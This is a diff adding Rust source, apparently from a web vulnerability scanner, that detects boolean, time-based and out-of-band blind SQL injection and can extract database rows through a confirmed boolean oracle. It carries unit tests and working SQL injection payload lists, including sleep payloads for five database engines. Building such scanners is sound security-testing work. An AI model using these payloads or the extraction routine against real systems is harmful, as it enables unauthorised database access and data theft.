@@ -0,0 +1,413 @@
+use tokio_rustls::TlsConnector;
+
+use crate::oob::oob::{callback, inject, DELIVERY};
+use crate::payload_builder::payload_builder::oob_sqli;
+use crate::report::report::{Finding, SEVERITY, CONFIDENCE};
+use crate::sender::fingerprint::similarity;
+use crate::sender::limiter::limiter;
+use crate::sqli::error::DBMS;
+use crate::sqli::extract::{self, CHANNEL};
+use crate::sqli::sqli::{send, sql_scanner, InjectionPoint, SqlResponse};
+
+// (true condition, false condition, arbitrary condition {c}) templates, {a} == {a} is true and {a} == {b} is false
+const BOOLEAN_PAIRS: &[(&str, &str, &str)] = &[
+    (" AND {a}={a}", " AND {a}={b}", " AND {c}"),
+    ("' AND '{a}'='{a}", "' AND '{a}'='{b}", "' AND {c} AND 'krk'='krk"),
+    ("\" AND \"{a}\"=\"{a}", "\" AND \"{a}\"=\"{b}", "\" AND {c} AND \"krk\"=\"krk"),
+    ("' AND {a}={a}-- -", "' AND {a}={b}-- -", "' AND {c}-- -"),
+    (") AND ({a}={a}", ") AND ({a}={b}", ") AND ({c}"),
+    ("') AND ('{a}'='{a}", "') AND ('{a}'='{b}", "') AND ({c}) AND ('krk'='krk"),
+];
+
+// DBMS and the payloads that stall it for {d} seconds
+pub const SLEEP_PAYLOADS: &[(&str, &[&str])] = &[
+    (
+        "MySQL",
+        &[
+            " AND SLEEP({d})",
+            "' AND SLEEP({d})-- -",
+            "' AND (SELECT 1 FROM (SELECT SLEEP({d}))x)-- -",
+            "\" AND SLEEP({d})-- -",
+        ],
+    ),
+    (
+        "PostgreSQL",
+        &[
+            " AND 1=(SELECT 1 FROM pg_sleep({d}))",
+            "' AND 1=(SELECT 1 FROM pg_sleep({d}))-- -",
+            "'; SELECT pg_sleep({d})-- -",
+        ],
+    ),
+    (
+        "Microsoft SQL Server",
+        &[
+            "; WAITFOR DELAY '0:0:{d}'-- -",
+            "'; WAITFOR DELAY '0:0:{d}'-- -",
+            ") WAITFOR DELAY '0:0:{d}'-- -",
+        ],
+    ),
+    (
+        "Oracle",
+        &[
+            " AND 1=DBMS_PIPE.RECEIVE_MESSAGE('krk',{d})",
+            "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('krk',{d})-- -",
+        ],
+    ),
+    // No sleep function, hex-encoding a large random blob keeps it busy instead. About {d} seconds on a
+    // typical CPU, and none at all with {d} at 0
+    (
+        "SQLite",
+        &[
+            " AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({d}00000000/2))))",
+            "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({d}00000000/2))))-- -",
+        ],
+    ),
+];
+
+const BASELINE_SAMPLES: usize = 5;
+
+// Baselines whose two loads share less than this can't tell a true condition from a false one
+const MIN_STABILITY: f64 = 0.8;
+
+// Same status and close enough in content to the baseline, payload left out where the page echoes it
+fn looks_like(response: &SqlResponse, payload: &str, baseline: &SqlResponse, threshold: f64) -> bool {
+    let body = match payload {
+        "" => response.body.clone(),
+        payload => response.body.replace(payload, " ").replace(urlencoding::encode(payload).as_ref(), " "),
+    };
+    response.status == baseline.status && similarity(&body, &baseline.body) >= threshold
+}
+
+fn condition(template: &str, a: u32, b: u32) -> String {
+    template.replace("{a}", &a.to_string()).replace("{b}", &b.to_string())
+}
+
+// Confirmed boolean injection that answers arbitrary SQL conditions, what extraction bisects through
+pub struct BooleanOracle {
+    template: &'static str,
+    baseline: SqlResponse,
+    threshold: f64,
+}
+
+impl BooleanOracle {
+    // Some(true) when the page for condition looks like the original one
+    pub async fn test(
+        &self,
+        scanner: &sql_scanner<'_>,
+        point: &InjectionPoint,
+        tls: &TlsConnector,
+        condition: &str,
+    ) -> Option<bool> {
+        let payload = self.template.replace("{c}", condition);
+        let response = send(point, &payload, &scanner.headers, tls).await?;
+        Some(looks_like(&response, &payload, &self.baseline, self.threshold))
+    }
+
+    // The {c} template isn't the one detection used, check it splits true and false the same way
+    pub async fn works(&self, scanner: &sql_scanner<'_>, point: &InjectionPoint, tls: &TlsConnector) -> bool {
+        self.test(scanner, point, tls, "1=1").await == Some(true)
+            && self.test(scanner, point, tls, "1=2").await == Some(false)
+    }
+}
+
+// True condition looks like the original page, false condition doesn't
+async fn boolean_differs(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    baseline: &SqlResponse,
+    threshold: f64,
+    pair: (&str, &str),
+    a: u32,
+    b: u32,
+) -> Option<(String, SqlResponse, SqlResponse)> {
+    let true_payload = condition(pair.0, a, b);
+    let truthy = send(point, &true_payload, &scanner.headers, tls).await?;
+    if !looks_like(&truthy, &true_payload, baseline, threshold) {
+        return None;
+    }
+
+    let false_payload = condition(pair.1, a, b);
+    let falsy = send(point, &false_payload, &scanner.headers, tls).await?;
+    if looks_like(&falsy, &false_payload, baseline, threshold) {
+        return None;
+    }
+    Some((true_payload, truthy, falsy))
+}
+
+// How alike two loads of the original page are, and how alike a true condition has to be to count as the
+// same page. Pages that change on every load get a wider margin, too much change and there is nothing to
+// compare
+fn margin(first: &SqlResponse, second: &SqlResponse) -> Option<(f64, f64)> {
+    if first.status != second.status {
+        return None;
+    }
+    let stability = similarity(&first.body, &second.body);
+    if stability < MIN_STABILITY {
+        return None;
+    }
+    Some((stability, 1.0 - (1.0 - stability) * 2.0 - 0.03))
+}
+
+pub async fn boolean_scan(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+) -> Option<(Finding, BooleanOracle)> {
+    let first = send(point, "", &scanner.headers, tls).await?;
+    let second = send(point, "", &scanner.headers, tls).await?;
+    let (stability, threshold) = margin(&first, &second)?;
+
+    for &(truthy, falsy, template) in BOOLEAN_PAIRS {
+        if boolean_differs(scanner, point, tls, &first, threshold, (truthy, falsy), 1, 2)
+            .await
+            .is_none()
+        {
+            continue;
+        }
+        // Same split again with other numbers, so a page that just dislikes one value doesn't count
+        if let Some((payload, truthy_response, falsy_response)) =
+            boolean_differs(scanner, point, tls, &first, threshold, (truthy, falsy), 37, 41).await
+        {
+            let finding = Finding {
+                url: point.url.clone(),
+                method: point.method.clone(),
+                parameter: point.name.clone(),
+                payload,
+                detail: format!(
+                    "true condition {:.0}% like the original page, false condition {:.0}% (two loads of it {:.0}%)",
+                    similarity(&truthy_response.body, &first.body) * 100.0,
+                    similarity(&falsy_response.body, &first.body) * 100.0,
+                    stability * 100.0
+                ),
+                request: truthy_response.request,
+                response: truthy_response.response,
+                cwe: Some(89),
+                ..Finding::new("sqli", "Boolean-based blind SQL injection", SEVERITY::HIGH, CONFIDENCE::CONFIRMED)
+            };
+            let oracle = BooleanOracle {
+                template,
+                baseline: first,
+                threshold,
+            };
+            return Some((finding, oracle));
+        }
+    }
+    None
+}
+
+fn mean_and_deviation(samples: &[f64]) -> (f64, f64) {
+    let mean = samples.iter().sum::<f64>() / samples.len() as f64;
+    let variance = samples.iter().map(|s| (s - mean).powi(2)).sum::<f64>() / samples.len() as f64;
+    (mean, variance.sqrt())
+}
+
+// Response time that counts as delayed. Slow or jittery hosts push the bar up instead of producing false
+// positives
+fn delay_threshold(mean: f64, deviation: f64, delay: u64) -> f64 {
+    (mean + 5.0 * deviation).max(mean + delay as f64 * 0.8)
+}
+
+// Seconds to sleep, short enough that the delayed request still fits in the rate profile's timeout
+fn sleep_seconds() -> u64 {
+    limiter().profile.timeout.as_secs().saturating_sub(2).clamp(2, 5)
+}
+
+pub async fn time_scan(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    dbms: &[&str],
+) -> Option<Finding> {
+    let mut samples = vec![];
+    for _ in 0..BASELINE_SAMPLES {
+        samples.push(send(point, "", &scanner.headers, tls).await?.elapsed.as_secs_f64());
+    }
+    let (mean, deviation) = mean_and_deviation(&samples);
+    let delay = sleep_seconds();
+    let threshold = delay_threshold(mean, deviation, delay);
+    let delayed = |response: &SqlResponse| response.elapsed.as_secs_f64() >= threshold;
+
+    for &(name, payloads) in SLEEP_PAYLOADS {
+        if !dbms.is_empty() && !dbms.contains(&name) {
+            continue;
+        }
+        for template in payloads.iter() {
+            let payload = template.replace("{d}", &delay.to_string());
+            let response = match send(point, &payload, &scanner.headers, tls).await {
+                Some(response) if delayed(&response) => response,
+                _ => continue,
+            };
+
+            // Sleep of zero has to come back at normal speed and the real one has to stall again
+            let zero = template.replace("{d}", "0");
+            match send(point, &zero, &scanner.headers, tls).await {
+                Some(quick) if !delayed(&quick) => {}
+                _ => continue,
+            }
+            let again = match send(point, &payload, &scanner.headers, tls).await {
+                Some(again) if delayed(&again) => again,
+                _ => continue,
+            };
+
+            return Some(Finding {
+                url: point.url.clone(),
+                method: point.method.clone(),
+                parameter: point.name.clone(),
+                payload,
+                detail: format!(
+                    "DBMS: {}, delayed {:.2}s and {:.2}s against a baseline of {:.2}s +/- {:.2}s",
+                    name,
+                    response.elapsed.as_secs_f64(),
+                    again.elapsed.as_secs_f64(),
+                    mean,
+                    deviation
+                ),
+                request: again.request,
+                response: again.response,
+                dbms: Some(name.to_string()),
+                cwe: Some(89),
+                ..Finding::new("sqli", "Time-based blind SQL injection", SEVERITY::HIGH, CONFIDENCE::CONFIRMED)
+            });
+        }
+    }
+    None
+}
+
+// Database HTTP/network clients calling the callback server, reported once the callback arrives
+async fn oob_scan(scanner: &sql_scanner<'_>, point: &InjectionPoint, tls: &TlsConnector, known: Option<DBMS>) {
+    for (index, (name, _)) in oob_sqli("http://localhost/").iter().enumerate() {
+        if known.is_some_and(|dbms| dbms.name() != *name) {
+            continue;
+        }
+        let build = |url: &str| oob_sqli(url).get(index).map(|(_, payload)| payload.clone()).unwrap_or_default();
+        inject(point, "sqli", "Out-of-band SQL injection", build, DELIVERY::APPEND, &scanner.headers, tls).await;
+    }
+}
+
+pub async fn scan_point(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    known: Option<DBMS>,
+) -> Vec<Finding> {
+    let mut findings = vec![];
+    if let Some((mut finding, oracle)) = boolean_scan(scanner, point, tls).await {
+        finding.dbms = known.map(|dbms| dbms.name().to_string());
+        if let Some(max_rows) = scanner.extract {
+            if oracle.works(scanner, point, tls).await {
+                let dbms = match known {
+                    Some(dbms) => Some(dbms),
+                    None => extract::blind_dbms(scanner, point, tls, &oracle).await,
+                };
+                if let Some(dbms) = dbms {
+                    finding.dbms = Some(dbms.name().to_string());
+                    finding.extracted =
+                        extract::extract(scanner, point, tls, dbms, CHANNEL::BLIND(&oracle), max_rows).await;
+                }
+            }
+        }
+        findings.push(finding);
+    }
+    // Only the known database's sleep payloads when error messages already gave it away
+    let names: Vec<&str> = known.iter().map(|dbms| dbms.name()).collect();
+    if let Some(finding) = time_scan(scanner, point, tls, &names).await {
+        findings.push(finding);
+    }
+    if callback().is_some() {
+        oob_scan(scanner, point, tls, known).await;
+    }
+    findings
+}
+
+#[cfg(test)]
+mod tests {
+    use std::time::Duration;
+
+    use super::*;
+
+    fn page(status: u16, body: &str) -> SqlResponse {
+        SqlResponse {
+            status,
+            body: body.to_string(),
+            elapsed: Duration::from_millis(100),
+            request: String::new(),
+            response: String::new(),
+        }
+    }
+
+    const RESULTS: &str = "<h1>Products</h1><ul><li>red chair</li><li>blue table</li><li>green lamp</li></ul>";
+
+    #[test]
+    fn pairs_are_true_then_false() {
+        for (truthy, falsy, template) in BOOLEAN_PAIRS {
+            assert_eq!(condition(truthy, 1, 2).matches('1').count(), 2, "{}", truthy);
+            assert!(condition(falsy, 1, 2).contains('1') && condition(falsy, 1, 2).contains('2'), "{}", falsy);
+            assert!(template.contains("{c}"));
+        }
+        assert_eq!(condition("' AND '{a}'='{b}", 37, 41), "' AND '37'='41");
+    }
+
+    #[test]
+    fn stable_pages_get_a_tight_margin() {
+        let (stability, threshold) = margin(&page(200, RESULTS), &page(200, RESULTS)).unwrap();
+        assert_eq!(stability, 1.0);
+        assert!((threshold - 0.97).abs() < 1e-9);
+
+        // Counters and tokens don't make a page unstable
+        let (stability, _) = margin(&page(200, "<p>3 users online</p>"), &page(200, "<p>4 users online</p>")).unwrap();
+        assert_eq!(stability, 1.0);
+    }
+
+    #[test]
+    fn unstable_or_inconsistent_pages_are_skipped() {
+        assert!(margin(&page(200, RESULTS), &page(500, RESULTS)).is_none());
+        assert!(margin(&page(200, RESULTS), &page(200, "<p>ad of the day: cheap flights to lisbon</p>")).is_none());
+    }
+
+    #[test]
+    fn true_looks_like_the_page_false_does_not() {
+        let baseline = page(200, RESULTS);
+        let payload = "' AND '1'='1";
+        // The page echoes the search term back, with the payload in it
+        let truthy = page(200, &format!("{}<p>you searched for chair{}</p>", RESULTS, payload));
+        let echo = page(200, &format!("{}<p>you searched for chair</p>", RESULTS));
+        assert!(looks_like(&truthy, payload, &baseline, 0.7));
+        assert!(!looks_like(&truthy, "", &baseline, 0.7));
+        assert!(looks_like(&echo, "", &baseline, 0.7));
+        assert!(looks_like(&page(200, RESULTS), payload, &baseline, 0.97));
+
+        let falsy = page(200, "<h1>Products</h1><p>no products found</p>");
+        assert!(!looks_like(&falsy, "' AND '1'='2", &baseline, 0.8));
+        assert!(!looks_like(&page(500, RESULTS), payload, &baseline, 0.8));
+    }
+
+    #[test]
+    fn delay_bar_follows_the_baseline() {
+        // Steady host: most of the requested delay is enough
+        let (mean, deviation) = mean_and_deviation(&[0.2, 0.2, 0.2, 0.2, 0.2]);
+        assert_eq!(deviation, 0.0);
+        assert!((delay_threshold(mean, deviation, 5) - 4.2).abs() < 1e-9);
+
+        // Jittery host: five deviations above the mean wins
+        let (mean, deviation) = mean_and_deviation(&[0.1, 2.1, 0.1, 2.1, 0.1]);
+        let threshold = delay_threshold(mean, deviation, 2);
+        assert!((threshold - (mean + 5.0 * deviation)).abs() < 1e-9);
+        assert!(threshold > mean + 1.6);
+    }
+
+    #[test]
+    fn sleep_payloads_scale_with_the_delay() {
+        let names: Vec<&str> = SLEEP_PAYLOADS.iter().map(|(name, _)| *name).collect();
+        for dbms in [DBMS::MYSQL, DBMS::POSTGRESQL, DBMS::MSSQL, DBMS::ORACLE, DBMS::SQLITE] {
+            assert!(names.contains(&dbms.name()), "{}", dbms.name());
+        }
+        for (_, payloads) in SLEEP_PAYLOADS {
+            for template in payloads.iter() {
+                assert!(template.contains("{d}"));
+            }
+        }
+        let sqlite = SLEEP_PAYLOADS.iter().find(|(name, _)| *name == "SQLite").unwrap().1[0];
+        assert!(sqlite.replace("{d}", "0").contains("RANDOMBLOB(000000000/2)"));
+    }
+}